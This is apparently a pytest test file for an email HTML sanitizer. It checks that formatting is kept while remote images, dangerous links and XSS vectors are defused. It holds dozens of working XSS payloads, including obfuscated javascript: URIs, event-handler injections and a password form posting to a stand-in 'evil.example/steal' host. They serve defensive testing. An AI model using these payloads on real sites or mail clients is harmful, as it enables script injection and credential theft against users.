"""sanitize_html against formatting it must keep and XSS vectors it must defuse."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from mailsync.domain.sanitize import LINK_REL, sanitize_html

pytestmark = pytest.mark.unit


_ALLOWED_ATTRS = {
    "href",
    "target",
    "rel",
    "alt",
    "width",
    "height",
    "data-cid",
    "title",
    "align",
    "valign",
    "open",
}
_SAFE_HREF = re.compile(r"^(https?://|mailto:|tel:)", re.IGNORECASE)


class _Inspector(HTMLParser):
    """Parses sanitizer output the way a browser tokenizer would and records it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def _assert_inert(out: str) -> None:
    inspector = _Inspector()
    inspector.feed(out)
    inspector.close()
    for tag, attrs in inspector.tags:
        assert tag not in {
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "svg",
            "math",
            "form",
            "input",
            "button",
            "meta",
            "base",
            "link",
            "textarea",
            "template",
            "video",
            "source",
        }, out
        for name, value in attrs.items():
            assert not name.startswith("on"), out
            assert name in _ALLOWED_ATTRS or tag in ("td", "th", "table", "ol", "font"), (name, out)
            if name == "href":
                assert value and _SAFE_HREF.match(value), out
        if tag == "img":
            assert "src" not in attrs and "srcset" not in attrs, out
    lowered = out.lower()
    assert "<script" not in lowered and "<style" not in lowered, out


# --------------------------------------------------------------------------- kept


def test_keeps_basic_formatting_and_tables() -> None:
    html = (
        "<h1>Title</h1><p>Hello <b>bold</b> <i>it</i> <u>u</u> <strong>s</strong> <em>e</em><br>line</p>"
        "<ul><li>one</li></ul><ol start='3'><li>three</li></ol><blockquote>quoted</blockquote>"
        "<pre>code</pre><hr>"
        "<table border='0' cellpadding='2'><thead><tr><th>H</th></tr></thead>"
        "<tbody><tr><td colspan='2' align='right'>cell</td></tr></tbody></table>"
    )
    out = sanitize_html(html)
    for fragment in (
        "<h1>Title</h1>",
        "<b>bold</b>",
        "<i>it</i>",
        "<u>u</u>",
        "<br>",
        "<li>one</li>",
        '<ol start="3">',
        "<blockquote>quoted</blockquote>",
        "<pre>code</pre>",
        "<hr>",
        '<table border="0" cellpadding="2">',
        "<th>H</th>",
        '<td colspan="2" align="right">cell</td>',
    ):
        assert fragment in out, fragment


def test_text_is_escaped_and_entities_survive() -> None:
    out = sanitize_html("<p>a &lt;b&gt; &amp; c &quot;d&quot; ü</p>")
    assert out == '<p>a &lt;b&gt; &amp; c "d" ü</p>'


def test_empty_input() -> None:
    assert sanitize_html("") == ""
    assert sanitize_html("   ") == ""


def test_full_document_keeps_only_body_content() -> None:
    html = (
        "<!DOCTYPE html><html><head><title>Secret title</title>"
        "<style>body{background:url(https://track.example/x)}</style>"
        "<link rel=stylesheet href='https://evil.example/a.css'></head>"
        "<body><p>Body text</p></body></html>"
    )
    out = sanitize_html(html)
    assert out == "<p>Body text</p>"


def test_lone_surrogates_do_not_crash() -> None:
    out = sanitize_html("<p>bad \udce4 byte</p>")
    assert out.startswith("<p>bad ") and "byte" in out


# --------------------------------------------------------------------------- links


def test_links_get_rel_and_target() -> None:
    out = sanitize_html('<a href="https://example.com/x?a=1&amp;b=2" target="_self" rel="opener">go</a>')
    assert out == (f'<a href="https://example.com/x?a=1&amp;b=2" target="_blank" rel="{LINK_REL}">go</a>')


@pytest.mark.parametrize("href", ["mailto:bob@example.com", "tel:+49301234", "http://example.com/"])
def test_harmless_schemes_kept(href: str) -> None:
    assert f'href="{href}"' in sanitize_html(f'<a href="{href}">x</a>')


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;&#x61;vascript&#58;alert(1)",
        "jav&#x09;ascript:alert(1)",
        "\x01javascript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "DATA:text/html,<script>alert(1)</script>",
        "cid:part1@example.com",
        "/relative/path",
        "//evil.example/protocol-relative",
    ],
)
def test_dangerous_or_relative_hrefs_removed(href: str) -> None:
    out = sanitize_html(f'<a href="{href}">click</a>')
    assert "href" not in out
    assert ">click</a>" in out
    _assert_inert(out)


# --------------------------------------------------------------------------- images


def test_remote_image_becomes_link_not_loaded() -> None:
    out = sanitize_html('<p><img src="https://cdn.example/logo.png?u=1&amp;t=2" alt="Company logo"></p>')
    assert "<img" not in out
    assert out == (
        f'<p><a href="https://cdn.example/logo.png?u=1&amp;t=2" target="_blank" rel="{LINK_REL}">'
        "[image: Company logo]</a></p>"
    )


def test_remote_image_without_alt_and_tracking_pixel() -> None:
    out = sanitize_html('<img src="http://track.example/open.gif" width="1" height="1">')
    assert out == f'<a href="http://track.example/open.gif" target="_blank" rel="{LINK_REL}">[image]</a>'


def test_image_alt_is_escaped() -> None:
    out = sanitize_html(
        '<img src="https://x.example/a.png" alt="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">'
    )
    assert "<script" not in out
    assert '[image: "&gt;&lt;script&gt;alert(1)&lt;/script&gt;]' in out


def test_image_src_attribute_breakout_stays_in_href() -> None:
    out = sanitize_html('<img src="https://x.example/&quot; onerror=&quot;alert(1)">')
    _assert_inert(out)
    assert out.startswith('<a href="https://x.example/&quot;')


def test_cid_image_kept_as_data_attribute() -> None:
    out = sanitize_html('<img src="cid:image001.png@01D9" alt="chart" width="300" onerror="alert(1)">')
    assert out == '<img data-cid="image001.png@01D9" alt="chart" width="300">'


@pytest.mark.parametrize(
    "src",
    [
        "data:image/png;base64,iVBORw0KGgo=",
        "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
        "javascript:alert(1)",
        "x",
        "",
    ],
)
def test_other_image_sources_dropped(src: str) -> None:
    out = sanitize_html(f'<img src="{src}" alt="pic" onerror="alert(1)">')
    assert out in ("[image: pic]", "")
    _assert_inert(out)


def test_srcset_and_background_do_not_load() -> None:
    out = sanitize_html(
        '<img srcset="https://x.example/a.png 1x"><table background="https://x.example/bg.png">'
        "<tr><td background='https://x.example/c.png'>c</td></tr></table>"
    )
    assert "srcset" not in out and "background" not in out
    assert "x.example" not in out


# --------------------------------------------------------------------------- XSS vectors


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=x OnErRoR=alert(1)>",
        "<img src=x onerror\x0b=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<div onmouseover='alert(1)'>hover</div>",
        "<p style='background:url(javascript:alert(1))'>x</p>",
        "<div style='width: expression(alert(1))'>x</div>",
        "<style>@import 'https://evil.example/x.css'; *{x:expression(alert(1))}</style>",
        "<meta http-equiv='refresh' content='0;url=javascript:alert(1)'>",
        "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
        "<base href='https://evil.example/'><a href='x'>rel</a>",
        "<form action='https://evil.example/steal'><input name=pw type=password><button>Send</button></form>",
        "<button formaction='javascript:alert(1)'>x</button>",
        "<iframe src='https://evil.example'></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data='https://evil.example/x.swf'></object>",
        "<embed src='https://evil.example/x.swf'>",
        "<link rel=stylesheet href='https://evil.example/x.css'>",
        "<a href='javascript:alert(1)' onclick='alert(2)'>x</a>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<!--<img src=x onerror=alert(1)>-->",
        "<template><script>alert(1)</script></template>",
        "<textarea><script>alert(1)</script></textarea>",
        "<isindex action=javascript:alert(1) type=image>",
        '<table><tr><td><a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">x</a></td></tr></table>',
    ],
)
def test_xss_vectors_are_inert(payload: str) -> None:
    out = sanitize_html(payload)
    _assert_inert(out)
    assert "alert(1)</script" not in out


def test_script_and_style_contents_are_dropped_not_shown() -> None:
    out = sanitize_html(
        "<p>before</p><script>var secret = 1;</script><style>p{color:red}</style><p>after</p>"
    )
    assert out == "<p>before</p><p>after</p>"


def test_form_text_survives_without_form() -> None:
    out = sanitize_html("<form action='https://evil.example'>Please <b>confirm</b></form>")
    assert out == "Please <b>confirm</b>"


def test_class_and_id_removed() -> None:
    out = sanitize_html('<div class="app-header" id="login">x</div>')
    assert out == "<div>x</div>"


def test_idempotent() -> None:
    html = '<p>Hi <a href="https://a.example">a</a> <img src="https://b.example/i.png" alt="b"> <img src="cid:c"></p>'
    once = sanitize_html(html)
    assert sanitize_html(once) == once
